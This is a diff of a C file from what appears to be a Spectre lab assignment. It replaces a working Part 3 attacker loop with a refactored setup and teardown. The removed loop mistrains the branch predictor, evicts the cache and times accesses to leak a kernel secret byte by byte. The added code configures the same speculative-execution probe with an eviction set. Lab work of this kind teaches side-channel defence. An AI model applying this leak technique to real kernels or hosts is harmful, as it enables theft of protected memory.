@@ -10,71 +10,54 @@
 #include <stdint.h>
 
 #include "labspectreipc.h"
-#include "spectre_solution.h"
+#include "spectre_attacker.h"
 
 /*
- * call_kernel_part3
- * Performs the COMMAND_PART3 call in the kernel
+ * setup_part3
+ * Describes how part 3 probes the kernel
  *
  * Arguments:
- *  - kernel_fd: A file descriptor to the kernel module
- *  - shared_memory: Memory region to share with the kernel
- *  - offset: The offset into the secret to try and read
+ *  - kernel_fd: A file descriptor referring to the lab vulnerable kernel module
+ *  - shared_memory: A pointer to a region of memory shared with the server
+ *  - cache_stats: Calibration to take the hit threshold from
+ *  - probe: Filled in with how to run a sweep
+ *  - decision: Filled in with when to commit to a byte
  */
-static inline void call_kernel_part3(int kernel_fd, char *shared_memory, size_t offset) {
-    spectre_lab_command local_cmd;
-    local_cmd.kind = COMMAND_PART3;
-    local_cmd.arg1 = (uintptr_t)shared_memory;
-    local_cmd.arg2 = offset;
+static void setup_part3(int kernel_fd, char *shared_memory, const CacheStats *cache_stats,
+                        ProbeConfig *probe, DecisionConfig *decision)
+{
+    // The bounds check variable is 32K aligned, so it lives at page offset 0.
+    // Evicting just the L2 sets that page offset can map to replaces a full cache sweep.
+    EvictionSet *limit_eviction_set = malloc(sizeof(EvictionSet));
+    build_eviction_set_for_page_offset(0, limit_eviction_set);
 
-    write(kernel_fd, (void *)&local_cmd, sizeof(local_cmd));
+    *probe = (ProbeConfig) {
+        .kernel_fd = kernel_fd,
+        .shared_memory = shared_memory,
+        .kind = COMMAND_PART3,
+        .num_training = 2,
+        .evict_repeats = 3,
+        .eviction_set = limit_eviction_set,
+        .field_bits = probe_field_bits,
+    };
+    *decision = default_decision_config(cache_stats->threshold);
+    decision->max_sweeps = 10000;
 }
 
 /*
- * run_attacker
- *
- * Arguments:
- *  - kernel_fd: A file descriptor referring to the lab vulnerable kernel module
- *  - shared_memory: A pointer to a region of memory shared with the server
+ * teardown_part3
+ * Releases what setup_part3 allocated
  */
-int run_attacker(int kernel_fd, char *shared_memory)
+static void teardown_part3(ProbeConfig *probe)
 {
-    char leaked_str[SHD_SPECTRE_LAB_SECRET_MAX_LEN];
-    size_t current_offset = 0;
-    CacheStats cache_stats = generate_cache_stats(1000);
-    //print_cache_stats(cache_stats);
-    printf("Launching attacker\n");
-    for (current_offset = 0; current_offset < SHD_SPECTRE_LAB_SECRET_MAX_LEN; current_offset++)
-    {
-        char leaked_byte;
-        bool found = false;
-        while(!found)
-        {
-            for (size_t i = 0; i < SHD_SPECTRE_LAB_SHARED_MEMORY_NUM_PAGES; i++) 
-            {
-                void* target_addr = shared_memory + i * SHD_SPECTRE_LAB_PAGE_SIZE;
-                REPEAT(2) call_kernel_part3(kernel_fd, shared_memory, 0);
-                evict_address(target_addr);
-                REPEAT(3) evict_all_cache();
-                call_kernel_part3(kernel_fd, shared_memory, current_offset);
-                uint64_t time = time_access(target_addr);
-                if (time <= cache_stats.l2 + 20 /*Plus some padding*/) {
-                    leaked_byte = (char)i;
-                    found = true;
-                    break;
-                }
-            }
-        }
-        printf("[Part 3] Found char:%c:\n", leaked_byte);
-        leaked_str[current_offset] = leaked_byte;
-        if (leaked_byte == '\x00') {
-            break;
-        }
-    }
-
-    printf("\n\n[Part 3] We leaked:\n%s\n", leaked_str);
-    destroy_cache_stats(cache_stats);
-
-    close(kernel_fd);
-    return EXIT_SUCCESS;
+    free((void *)probe->eviction_set);
+    probe->eviction_set = NULL;
 }
+
+const AttackerPart attacker_part3 = {
+    .name = "part3",
+    .label = "Part 3",
+    .print_bytes = true,
+    .setup = setup_part3,
+    .teardown = teardown_part3,
+};